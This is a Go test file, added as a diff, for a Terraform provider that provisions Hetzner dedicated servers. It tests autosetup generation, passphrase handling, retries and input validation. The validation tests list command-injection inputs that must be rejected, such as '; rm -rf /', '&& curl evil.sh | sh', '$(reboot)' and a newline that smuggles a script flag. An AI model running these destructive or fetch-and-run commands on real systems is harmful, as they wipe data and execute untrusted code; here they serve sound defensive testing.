@@ -0,0 +1,481 @@
+package provider
+
+import (
+	"context"
+	"encoding/json"
+	"errors"
+	"net"
+	"net/http"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"sync/atomic"
+	"testing"
+	"time"
+
+	"github.com/hashicorp/terraform-plugin-framework/attr"
+	"github.com/hashicorp/terraform-plugin-framework/diag"
+	"github.com/hashicorp/terraform-plugin-framework/resource"
+	"github.com/hashicorp/terraform-plugin-framework/tfsdk"
+	"github.com/hashicorp/terraform-plugin-framework/types"
+	"github.com/hashicorp/terraform-plugin-go/tftypes"
+
+	"github.com/mokto/terraform-provider-hrobot/internal/client"
+	sshx "github.com/mokto/terraform-provider-hrobot/internal/ssh"
+)
+
+func TestCollectScriptOutputs(t *testing.T) {
+	script := `echo "Installing K3S agent..."
+echo "HROBOT_OUTPUT_K3S_NODE_ID=abc123"
+echo "  HROBOT_OUTPUT_JOIN_URL=https://10.0.0.1:6443?x=y  "
+echo "HROBOT_OUTPUT_=ignored"
+echo "HROBOT_OUTPUT_NO_VALUE"
+echo "done"`
+
+	if _, err := exec.LookPath("bash"); err != nil {
+		t.Skip("bash not available")
+	}
+	stdout, err := exec.Command("bash", "-c", script).Output()
+	if err != nil {
+		t.Fatalf("run script: %v", err)
+	}
+
+	outputs := map[string]string{}
+	collectScriptOutputs(outputs, string(stdout))
+
+	if outputs["K3S_NODE_ID"] != "abc123" {
+		t.Fatalf("expected K3S_NODE_ID=abc123, got %q", outputs["K3S_NODE_ID"])
+	}
+	if outputs["JOIN_URL"] != "https://10.0.0.1:6443?x=y" {
+		t.Fatalf("unexpected JOIN_URL: %q", outputs["JOIN_URL"])
+	}
+	if len(outputs) != 2 {
+		t.Fatalf("expected 2 outputs, got %v", outputs)
+	}
+}
+
+func TestInstallScriptsKeepPassphraseOffDisk(t *testing.T) {
+	if strings.Contains(postinstallScript, "mktemp") {
+		t.Fatalf("postinstall script must not write the passphrase to a temp file")
+	}
+	if !strings.Contains(postinstallScript, `printf '%s\n' "$CRYPT_PASSWORD" | cryptsetup luksAddKey`) {
+		t.Fatalf("postinstall script must pipe the passphrase into luksAddKey")
+	}
+	for _, marker := range []string{".CryptPassword", "CRYPT_PASSWORD"} {
+		if strings.Contains(postinstallFirstRunScript, marker) {
+			t.Fatalf("first-run script must not reference the passphrase (%s)", marker)
+		}
+	}
+}
+
+func TestRunInstallimageRemovesInstallFiles(t *testing.T) {
+	m := configurationModel{ServerNumber: types.Int64Value(111), InstallimagePath: types.StringNull()}
+	for _, installErr := range []error{nil, errors.New("installimage exited with 1")} {
+		var cmds []string
+		run := func(cmd string) (string, error) {
+			cmds = append(cmds, cmd)
+			if cmd == installimageCommand(m) {
+				return "", installErr
+			}
+			return "", nil
+		}
+		if err := runInstallimage(context.Background(), run, m); err != installErr {
+			t.Fatalf("expected installimage error %v, got %v", installErr, err)
+		}
+		if len(cmds) != 2 || cmds[0] != installimageCommand(m) || cmds[1] != installFilesCleanupCmd {
+			t.Fatalf("expected installimage followed by the cleanup (installimage error %v), got %q", installErr, cmds)
+		}
+	}
+
+	// The cleanup itself works: setup.conf and post-install.sh are gone afterwards
+	dir := t.TempDir()
+	for _, name := range []string{"setup.conf", "post-install.sh"} {
+		if err := os.WriteFile(filepath.Join(dir, name), []byte("CRYPTPASSWORD secret\n"), 0o600); err != nil {
+			t.Fatal(err)
+		}
+	}
+	cmd := strings.ReplaceAll(installFilesCleanupCmd, "/root/", dir+"/")
+	if out, err := exec.Command("sh", "-c", cmd).CombinedOutput(); err != nil {
+		t.Fatalf("cleanup: %v\n%s", err, out)
+	}
+	if entries, _ := os.ReadDir(dir); len(entries) != 0 {
+		t.Fatalf("expected the install files to be removed, found %v", entries)
+	}
+}
+
+func TestCheckSSHReachable(t *testing.T) {
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatalf("listen: %v", err)
+	}
+	addr := ln.Addr().String()
+	if err := checkSSHReachable(addr, 2*time.Second); err != nil {
+		t.Fatalf("expected %s to be reachable: %v", addr, err)
+	}
+	ln.Close()
+	if err := checkSSHReachable(addr, 2*time.Second); err == nil {
+		t.Fatalf("expected closed port %s to be unreachable", addr)
+	}
+}
+
+func TestBuildAutosetupContent(t *testing.T) {
+	ctx := context.Background()
+	diskConfigType := diskConfigAttribute().GetType().(types.ObjectType)
+
+	legacy := configurationModel{Arch: types.StringValue("arm64"), NoUEFI: types.BoolNull(), RaidLevel: types.Int64Null(), FilesystemType: types.StringNull(), DiskConfig: types.ObjectNull(diskConfigType.AttrTypes)}
+	got := buildAutosetupContent("web-abc123", "secret", diskLayout(ctx, legacy), autosetupImage(legacy), "/dev/nvme0n1", "/dev/nvme1n1")
+	want := `CRYPTPASSWORD secret
+DRIVE1 /dev/nvme0n1
+DRIVE2 /dev/nvme1n1
+SWRAID 1
+SWRAIDLEVEL 1
+BOOTLOADER grub
+PART /boot/efi esp 512M
+PART /boot ext4 1G
+PART /     ext4 all crypt
+IMAGE /root/images/Ubuntu-2404-noble-arm64-base.tar.gz
+SSHKEYS_URL /root/.ssh/authorized_keys
+HOSTNAME web-abc123`
+	if got != want {
+		t.Fatalf("deprecated attributes changed the autosetup:\n%s", got)
+	}
+
+	diskConfig, d := types.ObjectValue(diskConfigType.AttrTypes, map[string]attr.Value{
+		"arch":         types.StringValue("amd64"),
+		"raid_level":   types.Int64Null(),
+		"filesystem":   types.StringValue("xfs"),
+		"no_uefi":      types.BoolValue(true),
+		"swap_size_mb": types.Int64Value(4096),
+		"boot_size_mb": types.Int64Value(1536),
+		"efi_size_mb":  types.Int64Null(),
+	})
+	if d.HasError() {
+		t.Fatal(d)
+	}
+	m := configurationModel{Arch: types.StringNull(), NoUEFI: types.BoolNull(), RaidLevel: types.Int64Null(), FilesystemType: types.StringNull(), DiskConfig: diskConfig}
+	got = buildAutosetupContent("web-abc123", "secret", diskLayout(ctx, m), autosetupImage(m), "/dev/sda", "")
+	want = `CRYPTPASSWORD secret
+DRIVE1 /dev/sda
+BOOTLOADER grub
+PART /boot ext4 1536M
+PART swap swap 4G
+PART /     xfs all crypt
+IMAGE /root/images/Ubuntu-2404-noble-amd64-base.tar.gz
+SSHKEYS_URL /root/.ssh/authorized_keys
+HOSTNAME web-abc123`
+	if got != want {
+		t.Fatalf("unexpected autosetup from disk_config:\n%s", got)
+	}
+
+	// hostname replaces server_name in autosetup and is set again on first run
+	m.ServerName = types.StringValue("web-abc123")
+	if got := buildAutosetupContent(osHostname(m), "secret", diskLayout(ctx, m), autosetupImage(m), "/dev/sda", ""); !strings.HasSuffix(got, "\nHOSTNAME web-abc123") {
+		t.Fatalf("expected server_name as hostname without override:\n%s", got)
+	}
+	m.Hostname = types.StringValue("worker-1")
+	if got := buildAutosetupContent(osHostname(m), "secret", diskLayout(ctx, m), autosetupImage(m), "/dev/sda", ""); !strings.HasSuffix(got, "\nHOSTNAME worker-1") {
+		t.Fatalf("expected hostname override in autosetup:\n%s", got)
+	}
+	out, err := renderScript(postinstallFirstRunTemplate, &PostInstallTemplateData{Hostname: osHostname(m)})
+	if err != nil {
+		t.Fatalf("render: %v", err)
+	}
+	if !strings.Contains(out, `hostnamectl set-hostname "worker-1"`) {
+		t.Fatal("first-run script does not set the hostname")
+	}
+	if out, _ := renderScript(postinstallFirstRunTemplate, &PostInstallTemplateData{}); strings.Contains(out, "hostnamectl") {
+		t.Fatal("first-run script sets an empty hostname")
+	}
+
+	for hostname, ok := range map[string]bool{"worker-1": true, "node.example.com": true, "-bad": false, "bad-": false, "a b": false, "x;reboot": false, strings.Repeat("a", 64): false} {
+		if hostnamePattern.MatchString(hostname) != ok {
+			t.Errorf("hostname %q: expected valid=%v", hostname, ok)
+		}
+	}
+}
+
+func TestInstallimagePath(t *testing.T) {
+	ctx := context.Background()
+	res := &configurationResource{}
+	var schemaResp resource.SchemaResponse
+	res.Schema(ctx, resource.SchemaRequest{}, &schemaResp)
+	objType := schemaResp.Schema.Type().TerraformType(ctx).(tftypes.Object)
+
+	validate := func(installimagePath string) diag.Diagnostics {
+		vals := map[string]tftypes.Value{}
+		for name, typ := range objType.AttributeTypes {
+			vals[name] = tftypes.NewValue(typ, nil)
+		}
+		vals["server_number"] = tftypes.NewValue(tftypes.Number, 111)
+		vals["server_ip"] = tftypes.NewValue(tftypes.String, "1.2.3.4")
+		vals["name"] = tftypes.NewValue(tftypes.String, "web")
+		vals["cryptpassword"] = tftypes.NewValue(tftypes.String, "secret")
+		vals["use_ephemeral_ssh_key"] = tftypes.NewValue(tftypes.Bool, true)
+		vals["arch"] = tftypes.NewValue(tftypes.String, "amd64")
+		vals["installimage_path"] = tftypes.NewValue(tftypes.String, installimagePath)
+		var resp resource.ValidateConfigResponse
+		res.ValidateConfig(ctx, resource.ValidateConfigRequest{Config: tfsdk.Config{Schema: schemaResp.Schema, Raw: tftypes.NewValue(objType, vals)}}, &resp)
+		return resp.Diagnostics
+	}
+
+	for _, p := range []string{"/root/.oldroot/nfs/install/installimage", "/usr/local/bin/installimage-v2.1+hetzner"} {
+		if diags := validate(p); diags.HasError() {
+			t.Errorf("%q: unexpected errors: %v", p, diags)
+		}
+	}
+	for _, p := range []string{
+		"installimage",
+		"/root/installimage; rm -rf /",
+		"/root/installimage && curl evil.sh | sh",
+		"/root/$(reboot)",
+		"/root/`reboot`",
+		"/root/install image",
+		"/root/installimage\n-x /tmp/evil.sh",
+		"/root/installimage|tee",
+	} {
+		diags := validate(p)
+		if !diags.HasError() || diags.Errors()[0].Summary() != "Invalid installimage_path" {
+			t.Errorf("%q: expected an invalid installimage_path error, got %v", p, diags)
+		}
+	}
+
+	m := configurationModel{InstallimagePath: types.StringNull()}
+	if got := installimageCommand(m); got != "/root/.oldroot/nfs/install/installimage -a -c /root/setup.conf -x /root/post-install.sh" {
+		t.Fatalf("unexpected default command %q", got)
+	}
+	m.InstallimagePath = types.StringValue("/opt/installimage")
+	if got := installimageCommand(m); got != "/opt/installimage -a -c /root/setup.conf -x /root/post-install.sh" {
+		t.Fatalf("unexpected command %q", got)
+	}
+}
+
+func TestCheckServerLock(t *testing.T) {
+	body := `{"server":{"server_number":123,"server_ip":"1.2.3.4","status":"ready","paid_until":"2026-01-31"}}`
+	var requests []string
+	pd := testProviderData(t, func(w http.ResponseWriter, r *http.Request) {
+		requests = append(requests, r.URL.Path)
+		if r.URL.Path != "/server" {
+			http.NotFound(w, r)
+			return
+		}
+		_, _ = w.Write([]byte("[" + body + "]"))
+	})
+	res := &configurationResource{providerData: pd}
+	ctx := context.Background()
+
+	// The lock check reuses the server resolveServerIP read
+	var diags diag.Diagnostics
+	m := configurationModel{ServerNumber: types.Int64Value(123), ServerIP: types.StringUnknown()}
+	res.resolveServerIP(ctx, &diags, &m, false)
+	if summary, detail := res.checkServerLock(ctx, 123); summary != "" || diags.HasError() {
+		t.Fatalf("unexpected lock error for a ready server: %s %v", detail, diags)
+	}
+	if strings.Join(requests, ",") != "/server" {
+		t.Fatalf("expected a single /server call, got %v", requests)
+	}
+	for _, locked := range []string{
+		`{"server":{"server_number":123,"status":"ready","locked":true,"paid_until":"2026-01-31"}}`,
+		`{"server":{"server_number":123,"status":"locked","paid_until":"2026-01-31"}}`,
+	} {
+		body = locked
+		pd.CacheManager.Invalidate()
+		summary, detail := res.checkServerLock(ctx, 123)
+		if summary != "server locked" || !strings.HasPrefix(detail, "server 123 is locked: ") || !strings.Contains(detail, "paid until 2026-01-31") {
+			t.Fatalf("expected a lock error for %s, got %q: %q", locked, summary, detail)
+		}
+		var server client.Server
+		if err := json.Unmarshal([]byte(strings.TrimSuffix(strings.TrimPrefix(locked, `{"server":`), "}")), &server); err != nil {
+			t.Fatal(err)
+		}
+		if !newServerModel(server).Locked.ValueBool() {
+			t.Fatalf("expected the data source to report %s as locked", locked)
+		}
+	}
+
+	// A failed lookup doesn't block the install
+	if summary, _ := res.checkServerLock(ctx, 456); summary != "" {
+		t.Fatalf("expected a failed lookup to be ignored, got %q", summary)
+	}
+}
+
+func TestRunPreInstallCommands(t *testing.T) {
+	ctx := context.Background()
+	var ran []string
+	run := func(cmd string) (string, error) {
+		ran = append(ran, cmd)
+		if cmd == "false" {
+			return "boom", errors.New("exit status 1")
+		}
+		return "", nil
+	}
+
+	if summary, detail := runPreInstallCommands(ctx, run, []string{"modprobe dm_crypt", "ip route add 10.9.0.0/16 via 10.1.0.1"}); summary != "" {
+		t.Fatalf("unexpected failure: %s", detail)
+	}
+	if strings.Join(ran, ";") != "modprobe dm_crypt;ip route add 10.9.0.0/16 via 10.1.0.1" {
+		t.Fatalf("commands not run in order: %q", ran)
+	}
+
+	ran = nil
+	summary, detail := runPreInstallCommands(ctx, run, []string{"true", "false", "echo never"})
+	if summary != "pre-install command failed" || !strings.Contains(detail, `pre_install_commands[1] ("false")`) || !strings.Contains(detail, "boom") {
+		t.Fatalf("unexpected failure report: %q: %q", summary, detail)
+	}
+	if strings.Join(ran, ";") != "true;false" {
+		t.Fatalf("expected the failed command to stop execution, ran %q", ran)
+	}
+}
+
+func TestBootDelay(t *testing.T) {
+	ctx := context.Background()
+	res := &configurationResource{}
+	var schemaResp resource.SchemaResponse
+	res.Schema(ctx, resource.SchemaRequest{}, &schemaResp)
+
+	objType := schemaResp.Schema.Type().TerraformType(ctx).(tftypes.Object)
+	validate := func(delay interface{}) diag.Diagnostics {
+		vals := map[string]tftypes.Value{}
+		for name, typ := range objType.AttributeTypes {
+			vals[name] = tftypes.NewValue(typ, nil)
+		}
+		vals["server_number"] = tftypes.NewValue(tftypes.Number, 111)
+		vals["server_ip"] = tftypes.NewValue(tftypes.String, "1.2.3.4")
+		vals["name"] = tftypes.NewValue(tftypes.String, "web")
+		vals["install_mode"] = tftypes.NewValue(tftypes.String, installModeConfigureOnly)
+		vals["boot_delay_seconds"] = tftypes.NewValue(tftypes.Number, delay)
+		req := resource.ValidateConfigRequest{Config: tfsdk.Config{Schema: schemaResp.Schema, Raw: tftypes.NewValue(objType, vals)}}
+		var resp resource.ValidateConfigResponse
+		res.ValidateConfig(ctx, req, &resp)
+		return resp.Diagnostics
+	}
+
+	for _, ok := range []interface{}{nil, 5, 120} {
+		if diags := validate(ok); diags.HasError() {
+			t.Fatalf("boot_delay_seconds %v: unexpected errors: %v", ok, diags)
+		}
+	}
+	for _, bad := range []interface{}{4, 121} {
+		if diags := validate(bad); !diags.HasError() || diags.Errors()[0].Summary() != "Invalid boot_delay_seconds" {
+			t.Fatalf("boot_delay_seconds %v: expected an error, got %v", bad, diags)
+		}
+	}
+
+	if got := bootDelay(configurationModel{BootDelay: types.Int64Null()}); got != 10*time.Second {
+		t.Fatalf("expected a 10s default, got %s", got)
+	}
+	if got := bootDelay(configurationModel{BootDelay: types.Int64Value(5)}); got != 5*time.Second {
+		t.Fatalf("expected 5s, got %s", got)
+	}
+}
+
+func TestRetryConfigure(t *testing.T) {
+	ctx := context.Background()
+
+	// A recoverable failure is retried and reported as a warning
+	calls := 0
+	var diags diag.Diagnostics
+	cerr := retryConfigure(ctx, &diags, func() *ConfigureError {
+		calls++
+		if calls == 1 {
+			return recoverableError(configurePhaseRescue, "ssh connect", "dial tcp: i/o timeout")
+		}
+		return nil
+	})
+	if cerr != nil || calls != 2 {
+		t.Fatalf("expected a successful retry, got %v after %d calls", cerr, calls)
+	}
+	if diags.HasError() || diags.WarningsCount() != 1 || diags.Warnings()[0].Summary() != "ssh connect" {
+		t.Fatalf("expected one warning, got %v", diags)
+	}
+
+	// Permanent failures are returned right away
+	calls = 0
+	diags = nil
+	cerr = retryConfigure(ctx, &diags, func() *ConfigureError {
+		calls++
+		return configureError(configurePhaseInstall, "installimage failed", "exit status 1")
+	})
+	if cerr == nil || cerr.Phase != configurePhaseInstall || cerr.Recoverable || calls != 1 || len(diags) != 0 {
+		t.Fatalf("expected no retry, got %v after %d calls, diags %v", cerr, calls, diags)
+	}
+
+	// A recoverable failure that persists is returned after the last attempt
+	calls = 0
+	diags = nil
+	cerr = retryConfigure(ctx, &diags, func() *ConfigureError {
+		calls++
+		return recoverableError(configurePhaseUpload, "upload autosetup", "EOF")
+	})
+	if cerr == nil || calls != configureAttempts || diags.WarningsCount() != configureAttempts-1 {
+		t.Fatalf("expected %d attempts, got %v after %d calls, diags %v", configureAttempts, cerr, calls, diags)
+	}
+	if cerr.Error() != "upload: upload autosetup: EOF" {
+		t.Fatalf("unexpected error string %q", cerr.Error())
+	}
+}
+
+func TestBuildExtraScript(t *testing.T) {
+	ctx := context.Background()
+	m := configurationModel{
+		InstallDocker: types.BoolNull(),
+		ExtraScripts:  types.ListValueMust(types.StringType, []attr.Value{types.StringValue("exit 3\n"), types.StringValue("touch /root/second")}),
+	}
+	script := buildExtraScript(ctx, m)
+	first := strings.Index(script, "(\nexit 3\n) || echo \"⚠ WARNING: extra_scripts[0] failed")
+	second := strings.Index(script, "(\ntouch /root/second\n) || echo \"⚠ WARNING: extra_scripts[1] failed")
+	if first < 0 || second < first || !strings.HasPrefix(script, "echo 'Docker installation not requested") {
+		t.Fatalf("unexpected extra script:\n%s", script)
+	}
+
+	out, err := renderScript(postinstallFirstRunTemplate, &PostInstallTemplateData{LocalIP: "10.1.0.5", ExtraScript: script})
+	if err != nil {
+		t.Fatalf("render: %v", err)
+	}
+	if !strings.Contains(out, "touch /root/second") {
+		t.Fatalf("first-run script missing extra_scripts")
+	}
+
+	m.ExtraScripts = types.ListNull(types.StringType)
+	if script := buildExtraScript(ctx, m); strings.Contains(script, "extra_scripts") {
+		t.Fatalf("unexpected extra scripts:\n%s", script)
+	}
+}
+
+func TestRescueActivationConflict(t *testing.T) {
+	oldWait := rescueConflictWait
+	rescueConflictWait = time.Millisecond
+	t.Cleanup(func() { rescueConflictWait = oldWait })
+
+	var calls int32
+	pd := testProviderData(t, func(w http.ResponseWriter, r *http.Request) {
+		if r.Method != http.MethodPost || r.URL.Path != "/boot/111/rescue" {
+			http.NotFound(w, r)
+			return
+		}
+		if atomic.AddInt32(&calls, 1) == 1 {
+			w.WriteHeader(http.StatusConflict)
+			_, _ = w.Write([]byte(`{"error":{"status":409,"code":"CONFLICT","message":"another operation is in progress"}}`))
+			return
+		}
+		w.WriteHeader(http.StatusInternalServerError)
+		_, _ = w.Write([]byte(`{"error":{"status":500,"code":"INTERNAL_ERROR","message":"internal error"}}`))
+	})
+	res := &configurationResource{providerData: pd}
+
+	ctx := context.Background()
+	plan := configurationModel{ServerNumber: types.Int64Value(111)}
+	var diags diag.Diagnostics
+	cerr := retryConfigure(ctx, &diags, func() *ConfigureError {
+		return res.preInstall([]string{"aa:bb"}, sshx.AuthFromAgent(""), "1.2.3.4", &plan, ctx)
+	})
+	if calls != 2 {
+		t.Fatalf("expected the activation to be retried once, got %d calls", calls)
+	}
+	if diags.WarningsCount() != 1 || diags.Warnings()[0].Summary() != "rescue activation conflict" {
+		t.Fatalf("expected a conflict warning, got %v", diags)
+	}
+	if cerr == nil || cerr.Summary != "activate rescue failed" || cerr.Recoverable {
+		t.Fatalf("expected the second failure to be returned, got %v", cerr)
+	}
+}